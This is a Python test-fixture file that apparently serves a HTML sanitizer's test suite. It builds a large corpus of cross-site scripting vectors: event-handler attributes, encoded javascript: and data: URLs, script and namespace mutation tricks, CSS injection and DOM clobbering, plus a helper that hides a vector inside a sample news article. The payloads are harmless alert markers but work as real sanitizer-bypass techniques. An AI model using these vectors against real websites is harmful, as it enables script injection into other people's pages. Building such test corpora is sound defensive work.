"""Script-execution vectors: the corpus every cleaned page is checked against in Chromium.

``VECTORS`` is a list of ``(id, html)``. Every payload tries to run ``alert(1)``-style code or to
set ``window.__xss``; ids are stable so that a failure names the vector. Families:

* ``ev-*``   event-handler attributes on every kind of tag (auto-firing where possible);
* ``url-*``  ``javascript:``/``vbscript:``/``data:`` URLs in every URL attribute, also
             entity-encoded and broken up with whitespace and control characters;
* ``scr-*``  ``<script>`` in its disguises;
* ``ns-*``   SVG and MathML namespace confusion;
* ``mut-*``  ``noscript``/``template``/``style``/``textarea``/``title``/comment mutation tricks;
* ``frm-*``  ``srcdoc``, frames, ``<base href>``, ``<meta http-equiv=refresh>``, ``<form action>``;
* ``css-*``  CSS ``expression()``, ``url(javascript:)``, ``-moz-binding``, ``behavior``, imports;
* ``clob-*`` DOM clobbering through ``id``/``name``.

``P`` is the payload: it calls ``alert`` and sets the trapped marker (two signals).
"""
from __future__ import annotations

P = "alert(1);window.__xss=1"
# A payload without quotes or parentheses, for attribute contexts that cannot carry them.
PQ = "window.__xss=1"

VECTORS: list[tuple[str, str]] = []


def add(vid: str, html: str) -> None:
    VECTORS.append((vid, html))


# --- event handlers on every kind of tag ------------------------------------------------------
# Tags with a handler that fires without user interaction in Chromium.
AUTO_FIRING = [
    ("img-onerror", f'<img src="/404.png" onerror="{P}">'),
    ("img-onload-data", f'<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="{P}">'),
    ("img-srcset-onerror", f'<img srcset="/404.png 1x" onerror="{P}">'),
    ("image-onerror", f'<image src="/404.png" onerror="{P}">'),
    ("svg-onload", f'<svg onload="{P}"></svg>'),
    ("svg-slash-onload", f'<svg/onload="{P}">'),
    ("body-onload", f'<body onload="{P}">'),
    ("body-onpageshow", f'<body onpageshow="{P}">'),
    ("details-ontoggle", f'<details open ontoggle="{P}"><summary>s</summary>d</details>'),
    ("input-autofocus", f'<input autofocus onfocus="{P}">'),
    ("textarea-autofocus", f'<textarea autofocus onfocus="{P}"></textarea>'),
    ("select-autofocus", f'<select autofocus onfocus="{P}"><option>a</option></select>'),
    ("button-autofocus", f'<button autofocus onfocus="{P}">b</button>'),
    ("div-contenteditable-autofocus", f'<div contenteditable autofocus onfocus="{P}">x</div>'),
    ("a-tabindex-autofocus", f'<a href="#" autofocus onfocus="{P}">x</a>'),
    ("p-tabindex-autofocus", f'<p tabindex=1 autofocus onfocus="{P}">x</p>'),
    ("style-onload", f'<style onload="{P}"></style>'),
    ("link-onerror", f'<link rel=stylesheet href="/404.css" onerror="{P}">'),
    ("script-src-onerror", f'<script src="/404.js" onerror="{P}"></script>'),
    ("video-onerror", f'<video src="/404.mp4" onerror="{P}"></video>'),
    ("video-source-onerror", f'<video><source src="/404.mp4" onerror="{P}"></video>'),
    ("audio-onerror", f'<audio src="/404.mp3" onerror="{P}"></audio>'),
    ("video-onloadstart", f'<video src="/404.mp4" onloadstart="{P}"></video>'),
    ("iframe-onload", f'<iframe onload="{P}"></iframe>'),
    ("object-onerror", f'<object data="/404.swf" onerror="{P}"></object>'),
    ("embed-onload", f'<embed src="/404" onload="{P}">'),
    ("marquee-onstart", f'<marquee onstart="{P}">m</marquee>'),
    ("div-onanimationstart", f'<style>@keyframes x{{}}</style><div style="animation-name:x" onanimationstart="{P}">a</div>'),
    ("p-onanimationend", f'<style>@keyframes y{{from{{opacity:1}}to{{opacity:1}}}}</style><p style="animation:y 1ms" onanimationend="{P}">a</p>'),
    ("div-ontransitionrun", f'<div style="transition:color 1ms" ontransitionrun="{P}">a</div>'),
    ("frameset-onload", f'<frameset onload="{P}"></frameset>'),
    ("table-background-onerror", f'<table background="javascript:{PQ}"><tr><td>x</td></tr></table>'),
    ("img-onerror-nospace", f'<img/src/onerror={PQ}>'),
    ("img-onerror-backtick", f'<img src=`x` onerror={PQ}>'),
    ("img-onerror-entities", '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">'),
    ("img-onerror-newline", f'<img src=x\nonerror\n=\n"{P}">'),
    ("img-onerror-slash", f'<img src=x/onerror="{P}"/ onerror="{P}">'),
    ("img-uppercase", f'<IMG SRC=x ONERROR="{P}">'),
    ("picture-img-onerror", f'<picture><source srcset="/404.webp"><img src="/404.png" onerror="{P}"></picture>'),
    ("svg-image-onerror", f'<svg><image href="/404.png" onerror="{P}"/></svg>'),
    ("svg-animate-onbegin", f'<svg><animate onbegin="{P}" attributeName=x dur=1s></animate></svg>'),
    ("svg-set-onbegin", f'<svg><set onbegin="{P}" attributeName=x to=1></set></svg>'),
    ("form-onsubmit-autofocus", f'<form onfocusin="{P}"><input autofocus></form>'),
    ("keygen-autofocus", f'<keygen autofocus onfocus="{P}">'),
    ("meter-onfocus", f'<meter autofocus tabindex=0 onfocus="{P}">1</meter>'),
]
for name, html in AUTO_FIRING:
    add(f"ev-{name}", html)

# Event handlers on every allowlisted tag and on common others: they need interaction, but the
# sanitizer must drop them all (the browser probe's CSP listener reports handlers only when they
# run, so these are also checked statically by the corpus test).
ALL_TAGS = ["a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "col", "colgroup",
            "dd", "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1",
            "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p",
            "picture", "pre", "q", "s", "samp", "small", "source", "strong", "sub", "summary",
            "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul", "var",
            "span", "section", "article", "font", "center", "label", "nav", "main", "header",
            "footer", "aside", "custom-el"]
HANDLERS = ["onclick", "onmouseover", "onfocus", "onpointerenter", "onauxclick", "onwheel"]
for i, tag in enumerate(ALL_TAGS):
    handler = HANDLERS[i % len(HANDLERS)]
    if tag in ("img", "source", "br", "hr", "col"):
        html = f'<{tag} {handler}="{P}" tabindex=1 autofocus>'
    elif tag in ("td", "th", "tr", "tbody", "thead", "tfoot", "caption", "colgroup"):
        html = f'<table><{tag} {handler}="{P}" tabindex=1 autofocus>cell</{tag}></table>'
    else:
        html = f'<{tag} {handler}="{P}" tabindex=1 autofocus>text in {tag}</{tag}>'
    add(f"ev-tag-{tag}", html)

# --- URL attributes -------------------------------------------------------------------------
JS_URLS = {
    "plain": f"javascript:{P}",
    "upper": f"JAVASCRIPT:{P}",
    "leading-space": f"  javascript:{P}",
    "tab": f"java\tscript:{P}",
    "newline": f"java\nscript:{P}",
    "cr": f"java\rscript:{P}",
    "ent-tab": f"java&#x09;script:{P}",
    "ent-newline": f"java&#10;script:{P}",
    "ent-decimal": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;" + P,
    "ent-hex-nosemi": "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A" + P,
    "ent-zero-padded": "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058" + P,
    "ent-colon": f"javascript&colon;{P}",
    "ctrl-lead": f"\x01\x02javascript:{P}",
    "ent-ctrl-lead": f"&#14;javascript:{P}",
    "ent-nbsp": f"&nbsp;javascript:{P}",
    "vbscript": "vbscript:msgbox(1)",
    "data-html": "data:text/html,<script>parent.alert(1);parent.__xss=1</script>",
    "data-html-b64": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=",
    "data-svg": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data-js": "data:text/javascript,alert(1)",
}
URL_SLOTS = {
    "a-href": '<a href="{u}" id=clickme>click me</a>',
    "area-href": '<map name=m><area shape=rect coords=0,0,10,10 href="{u}"></map><img usemap=#m src=/404.png>',
    "iframe-src": '<iframe src="{u}"></iframe>',
    "frame-src": '<frameset><frame src="{u}"></frameset>',
    "embed-src": '<embed src="{u}">',
    "object-data": '<object data="{u}"></object>',
    "form-action": '<form action="{u}" id=f><input type=submit id=go></form>',
    "button-formaction": '<form><button formaction="{u}" id=go>go</button></form>',
    "img-src": '<img src="{u}">',
    "img-srcset": '<img srcset="{u} 1x">',
    "source-srcset": '<picture><source srcset="{u}"><img src=/404.png></picture>',
    "video-poster": '<video poster="{u}"></video>',
    "q-cite": '<q cite="{u}">q</q>',
    "blockquote-cite": '<blockquote cite="{u}">b</blockquote>',
    "svg-a-xlink": '<svg><a xlink:href="{u}"><text x=10 y=20>t</text></a></svg>',
    "svg-use-href": '<svg><use href="{u}#x"/></svg>',
    "math-href": '<math><mi href="{u}">x</mi></math>',
    "base-href": '<base href="{u}"><a href="/x">x</a>',
    "link-href": '<link rel=stylesheet href="{u}">',
    "input-src": '<input type=image src="{u}">',
    "table-background": '<table background="{u}"><tr><td>x</td></tr></table>',
    "body-background": '<body background="{u}">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url={u}">',
    "script-src": '<script src="{u}"></script>',
    "isindex-action": '<isindex action="{u}" type=image>',
}
# Every slot with the plain payload, and every encoding in the link slot (the one kept by the
# policy), plus a sample of encodings in the other kept slots.
for slot, template in URL_SLOTS.items():
    add(f"url-{slot}-plain", template.format(u=JS_URLS["plain"]))
for enc, url in JS_URLS.items():
    if enc != "plain":
        add(f"url-a-href-{enc}", URL_SLOTS["a-href"].format(u=url))
for enc in ("ent-tab", "ent-decimal", "data-html", "data-svg", "vbscript", "ctrl-lead"):
    for slot in ("iframe-src", "img-src", "img-srcset", "object-data", "embed-src"):
        add(f"url-{slot}-{enc}", URL_SLOTS[slot].format(u=JS_URLS[enc]))

# --- <script> in its disguises ----------------------------------------------------------------
SCRIPTS = {
    "plain": f"<script>{P}</script>",
    "upper": f"<SCRIPT>{P}</SCRIPT>",
    "mixed-case": f"<ScRiPt>{P}</sCrIpT>",
    "type-module": f"<script type=module>{P}</script>",
    "type-text-js": f'<script type="text/javascript">{P}</script>',
    "language": f'<script language="javascript">{P}</script>',
    "src-data": '<script src="data:text/javascript,alert(1);window.__xss=1"></script>',
    "src-data-b64": '<script src="data:,alert(1)"></script>',
    "nested": f"<scr<script>ipt>{P}</scr</script>ipt>",
    "split-attr": f'<script\n>{P}</script\n>',
    "slash": f"<script/x>{P}</script>",
    "no-close": f"<script>{P}",
    "in-comment-break": f"<!--><script>{P}</script>-->",
    "comment-bang": f"<!--!><script>{P}</script>",
    "cdata": f"<![CDATA[><script>{P}</script>]]>",
    "after-pi": f"<?xml x><script>{P}</script>",
    "double-lt": f"<<script>{P}//<</script>",
    "entity-name": f"&lt;script&gt;{P}&lt;/script&gt;<script>{P}</script>",
    "null-in-tag": f"<scr\x00ipt>{P}</script><script>{P}</script>",
    "in-attribute": f'<p title="</p><script>{P}</script>">x</p>',
    "in-title": f"<title><script>{P}</script></title><script>{P}</script>",
    "in-table": f"<table><script>{P}</script><tr><td>x</td></tr></table>",
    "in-select": f"<select><script>{P}</script></select>",
    "in-head": f"<head><script>{P}</script></head>",
    "unicode-escape": "<script>\\u0061lert(1);window['__x'+'ss']=1</script>",
    "settimeout-string": "<script>setTimeout('alert(1);window.__xss=1')</script>",
    "document-write": "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "xml-ns-script": f'<html xmlns:x="http://www.w3.org/1999/xhtml"><x:script>{P}</x:script></html>',
    "importmap": '<script type=importmap>{"imports":{}}</script><script type=module>alert(1)</script>',
    "event-for": f'<script for=window event=onload>{P}</script>',
}
for name, html in SCRIPTS.items():
    add(f"scr-{name}", html)

# --- SVG and MathML namespace confusion -------------------------------------------------------
NAMESPACES = {
    "svg-script": f"<svg><script>{P}</script></svg>",
    "svg-script-href": '<svg><script href="data:text/javascript,alert(1)"></script></svg>',
    "svg-script-xlink": '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "svg-style-break": f"<svg><style><img src=x onerror=\"{P}\"></style></svg>",
    "svg-foreignobject": f'<svg><foreignObject><img src=x onerror="{P}"></foreignObject></svg>',
    "svg-desc-breakout": f'<svg><desc><img src=x onerror="{P}"></desc></svg>',
    "svg-title-breakout": f'<svg><title><img src=x onerror="{P}"></title></svg>',
    "svg-p-breakout": f'<svg><p><style><img src=x onerror="{P}"></style></p></svg>',
    "svg-cdata": f'<svg><![CDATA[><img src=x onerror="{P}">]]></svg>',
    "svg-animate-href": f'<svg><a><animate attributeName=href values="javascript:{PQ}"/><text x=20 y=20>click</text></a></svg>',
    "svg-set-href": f'<svg><a><set attributeName=href to="javascript:{PQ}"/><text y=20>x</text></a></svg>',
    "svg-handler-upper": f'<SVG ONLOAD="{P}">',
    "svg-in-p": f'<p><svg onload="{P}"></p>',
    "svg-use-data": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x"/></svg>',
    "svg-iframe": f'<svg><foreignObject><iframe srcdoc="<script>parent.alert(1)</script>"></iframe></foreignObject></svg>',
    "math-mglyph-style": f'<math><mtext><table><mglyph><style><img src=x onerror="{P}"></style></mglyph></table></mtext></math>',
    "math-mtext-img": f'<math><mtext><img src=x onerror="{P}"></mtext></math>',
    "math-annotation-xml": f'<math><annotation-xml encoding="text/html"><img src=x onerror="{P}"></annotation-xml></math>',
    "math-annotation-svg": f'<math><annotation-xml encoding="image/svg+xml"><svg onload="{P}"></svg></annotation-xml></math>',
    "math-mi-xlink": f'<math><mi xlink:href="javascript:{PQ}">x</mi></math>',
    "math-maction": f'<math><maction actiontype="statusline" xlink:href="javascript:{PQ}">x</maction></math>',
    "math-style-mxss": f'<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=\'{P}\' src=1>"></textarea></mtext></svg></mglyph></mi></math>',
    "svg-noscript-mxss": f'<svg></p><style><a id="</style><img src=1 onerror=\'{P}\'>">',
    "form-math-mxss": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{P}">',
}
for name, html in NAMESPACES.items():
    add(f"ns-{name}", html)

# --- noscript / template / style / textarea / comment mutations -------------------------------
MUTATIONS = {
    "noscript-title": f'<noscript><p title="</noscript><img src=x onerror=\'{P}\'>"></noscript>',
    "noscript-style": f'<noscript><style></noscript><img src=x onerror="{P}"></style></noscript>',
    "template-content": f'<template><img src=x onerror="{P}"></template>',
    "template-nested-break": f'<template><template></template></template><img src=x onerror="{P}">',
    "template-shadowroot": f'<div><template shadowrootmode="open"><img src=x onerror="{P}"></template></div>',
    "style-break": f'<style></style><img src=x onerror="{P}"></style>',
    "style-in-attr": f'<style><p title="</style><img src=x onerror=\'{P}\'>"></style>',
    "textarea-break": f'<textarea><p title="</textarea><img src=x onerror=\'{P}\'>"></textarea>',
    "title-break": f'<title><p title="</title><img src=x onerror=\'{P}\'>"></title>',
    "xmp-break": f'<xmp><p title="</xmp><img src=x onerror=\'{P}\'>"></xmp>',
    "iframe-text": f'<iframe><p title="</iframe><img src=x onerror=\'{P}\'>"></iframe>',
    "noembed-break": f'<noembed><p title="</noembed><img src=x onerror=\'{P}\'>"></noembed>',
    "noframes-break": f'<noframes><p title="</noframes><img src=x onerror=\'{P}\'>"></noframes>',
    "plaintext": f'<plaintext><img src=x onerror="{P}">',
    "comment-attr": f'<!-- <p title="--><img src=x onerror=\'{P}\'>"> -->',
    "comment-bogus": f'<! foo="><img src=x onerror=\'{P}\'>">',
    "comment-dash-bang": f'<!-- --!><img src=x onerror="{P}">-->',
    "select-style": f'<select><style><img src=x onerror="{P}"></style></select>',
    "table-style-foster": f'<table><style><img src=x onerror="{P}"></style></table>',
    "listing-break": f'<listing><img src=x onerror="{P}"></listing>',
    "frameset-noframes": f'<frameset><noframes><img src=x onerror="{P}"></noframes></frameset>',
    "attr-unquoted-gt": f'<a title=a>b<img src=x onerror="{P}">c</a>',
    "backslash-tag": f'<img src="x\\" onerror="{P}">',
    "double-encoded": '&lt;img src=x onerror=alert(1)&gt;<p title="&quot;><img src=x onerror=alert(1)>">t</p>',
}
for name, html in MUTATIONS.items():
    add(f"mut-{name}", html)

# --- frames, base, meta refresh, forms -------------------------------------------------------
FRAMES = {
    "iframe-srcdoc": f'<iframe srcdoc="<script>parent.alert(1);parent.__xss=1</script>"></iframe>',
    "iframe-srcdoc-entities": '<iframe srcdoc="&lt;img src=x onerror=&quot;parent.alert(1)&quot;&gt;"></iframe>',
    "iframe-srcdoc-with-src": '<iframe src="https://www.youtube.com/embed/x" srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "frameset-frame-data": '<frameset><frame src="data:text/html,<script>alert(1)</script>"></frameset>',
    "base-js": f'<base href="javascript:{PQ}//"><a href="/x">x</a>',
    "base-target": '<base target="_top"><a href="https://e.com/">x</a>',
    "meta-refresh-js": f'<meta http-equiv="refresh" content="0; url=javascript:{PQ}">',
    "meta-refresh-data": '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    "meta-csp-disable": '<meta http-equiv="Content-Security-Policy" content="script-src *"><script>alert(1)</script>',
    "meta-set-cookie": '<meta http-equiv="set-cookie" content="x=1">',
    "form-action-js-autosubmit": f'<form action="javascript:{PQ}" id=f></form><img src=x onerror="f.submit()">',
    "form-input-formaction": f'<form><input type=submit formaction="javascript:{PQ}" value=go autofocus></form>',
    "isindex": f'<isindex type=image src=1 onerror="{P}">',
    "object-type-html": '<object type="text/html" data="data:text/html,<script>parent.alert(1)</script>"></object>',
    "embed-svg": '<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">',
    "portal": '<portal src="javascript:alert(1)"></portal>',
    "link-import": '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    "link-prefetch-js": '<link rel=prefetch href="javascript:alert(1)">',
    "a-ping": '<a href="https://e.com/" ping="javascript:alert(1)">x</a>',
    "a-target-opener": '<a href="https://e.com/" target="_blank" rel="opener">x</a>',
    "area-nohref-handler": f'<map name=q><area shape=default onmouseover="{P}"></map><img usemap=#q src=/404.png width=50 height=50>',
}
for name, html in FRAMES.items():
    add(f"frm-{name}", html)

# --- CSS ------------------------------------------------------------------------------------
CSS = {
    "expression-attr": '<p style="width:expression(alert(1))">x</p>',
    "expression-comment": '<p style="width:expr/**/ession(alert(1))">x</p>',
    "url-js-attr": '<div style="background:url(javascript:alert(1))">x</div>',
    "url-js-escaped": '<div style="background:url(\\6a avascript:alert(1))">x</div>',
    "moz-binding": '<div style="-moz-binding:url(data:text/xml,<x/>#xss)">x</div>',
    "behavior": '<div style="behavior:url(x.htc)">x</div>',
    "style-import": '<style>@import "javascript:alert(1)";</style>',
    "style-url-js": '<style>body{background:url("javascript:alert(1)")}</style>',
    "style-expression": '<style>p{width:expression(alert(1))}</style>',
    "style-breakout": f'<style>p{{}}</style><img src=x onerror="{P}"><style></style>',
    "link-stylesheet-data": '<link rel=stylesheet href="data:text/css,body{background:url(javascript:alert(1))}">',
    "style-content-svg": '<div style="background-image:url(\'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>\')">x</div>',
    "font-face-src": '<style>@font-face{font-family:x;src:url(javascript:alert(1))}</style>',
    "style-escape-script": '<style>x{}</style><style>\\3c script\\3e alert(1)</style>',
    "style-attr-entity": '<p style="background:url(&#106;avascript:alert(1))">x</p>',
    "animation-handler": f'<style>@keyframes k{{}}</style><i style="animation:k" onanimationstart="{P}">x</i>',
}
for name, html in CSS.items():
    add(f"css-{name}", html)

# --- DOM clobbering ---------------------------------------------------------------------------
CLOBBER = {
    "img-name-getelementbyid": '<img name="getElementById" src=/404.png><img name="querySelector" src=/404.png>',
    "form-name-cookie": '<form name="cookie"></form><form name="body"></form>',
    "a-id-config": '<a id="config"></a><a id="config" name="url" href="javascript:alert(1)">x</a>',
    "id-xss-marker": '<a id="__xss" href="https://e.com/">x</a><div id="__xss">y</div>',
    "id-defaultview": '<img name="defaultView" src=/404.png>',
    "form-input-attributes": '<form id="x"><input name="attributes"><input name="innerHTML"></form>',
    "object-name": '<object name="alert" data="/404"></object>',
    "embed-name": '<embed name="location" src="/404">',
    "iframe-name-parent": '<iframe name="top" src="/404"></iframe>',
    "output-name": '<output name="ownerDocument">x</output>',
    "anchor-id-href-js": '<a id="CONFIG" href="javascript:alert(1)//">x</a>',
    "collection": '<a id="x"></a><a id="x" name="y" href="cid:alert(1)">x</a>',
}
for name, html in CLOBBER.items():
    add(f"clob-{name}", html)

# --- a few classics from public cheat sheets ---------------------------------------------------
CLASSICS = {
    "polyglot": 'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e',
    "img-src-js-ie": '<IMG SRC="javascript:alert(1);">',
    "img-dynsrc": '<img dynsrc="javascript:alert(1)">',
    "img-lowsrc": '<img lowsrc="javascript:alert(1)">',
    "bgsound": '<bgsound src="javascript:alert(1);">',
    "br-size": '<br size="&{alert(1)}">',
    "layer": '<layer src="javascript:alert(1)"></layer>',
    "xss-xml-island": '<xml id=x><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>',
    "half-open-img": '<img src="javascript:alert(1)"',
    "malformed-a": '<a onmouseover="alert(1)">xxs link</a>',
    "fromcharcode": '<img src=x onerror="eval(String.fromCharCode(97,108,101,114,116,40,49,41));window.__xss=1">',
    "grave-accent": '<img src=`javascript:alert(1)`>',
    "extraneous-brackets": f'<<img src=x onerror="{P}">',
    "no-closing-script": '<script src=data:,alert(1)//',
    "protocol-resolution": '<script src=//0x.lv></script>',
    "on-error-encoded-tab": '<img src=x one&#x09;rror="alert(1)">',
    "xss-utf7": '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    "html-entity-in-tag": '<img src=x &#111;nerror=alert(1)>',
    "embedded-newline-js": '<a href="jav&#x0A;ascript:alert(1);window.__xss=1">x</a>',
    "video-source-js": '<video><source onerror="alert(1)"></video>',
}
for name, html in CLASSICS.items():
    add(f"cls-{name}", html)


def _check_unique() -> None:
    ids = [vid for vid, _ in VECTORS]
    dupes = {vid for vid in ids if ids.count(vid) > 1}
    assert not dupes, f"duplicate vector ids: {sorted(dupes)}"


_check_unique()


# --- embedding a vector inside a realistic article -------------------------------------------

ARTICLE_PARAGRAPHS = [
    "The city council voted on Tuesday night to approve a new transit plan that will add three "
    "bus lines and extend the light-rail network by eleven kilometres over the next decade, "
    "ending a debate that has divided residents for more than two years.",
    "Supporters said the plan would cut commuting times for tens of thousands of people in the "
    "eastern districts, where many households do not own a car and the nearest station is often "
    "a forty-minute walk away. Opponents argued that the cost estimates were too optimistic.",
    "The mayor, speaking after the vote, said the city had learned from earlier projects that ran "
    "over budget and would publish quarterly reports on spending. \u201cWe owe people a clear "
    "account of every euro,\u201d she said, adding that construction could begin next spring.",
    "Transport researchers at the university said the new lines follow the routes where demand "
    "has grown fastest since the pandemic, and that similar schemes in other mid-sized cities had "
    "increased ridership by a fifth within three years of opening.",
    "Local businesses along the planned route were cautiously optimistic, though several shop "
    "owners said they feared that months of roadworks would keep customers away. The council "
    "promised a compensation fund for traders who can show a loss of income during the works.",
]


def article_page(vector_html: str, vid: str = "v", title: str = "Council approves transit plan") -> str:
    """A news page whose story body holds ``vector_html`` between long paragraphs, so that
    content extraction keeps it."""
    paras = ARTICLE_PARAGRAPHS
    body = "".join(f"<p>{p}</p>\n" for p in paras[:2]) + \
        f"<p>Reported detail {vid}: {vector_html} and the reporting continues here.</p>\n" + \
        f"<div>{vector_html}</div>\n" + "".join(f"<p>{p}</p>\n" for p in paras[2:])
    return f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>{title} | The Daily Example</title>
<meta property="og:title" content="{title}"></head>
<body><header><nav><a href="/">Home</a> <a href="/news">News</a> <a href="/sport">Sport</a></nav></header>
<main><article><h1>{title}</h1><p class="byline">By Jane Reporter</p>
{body}
</article></main>
<footer><p>&copy; The Daily Example</p></footer></body></html>"""
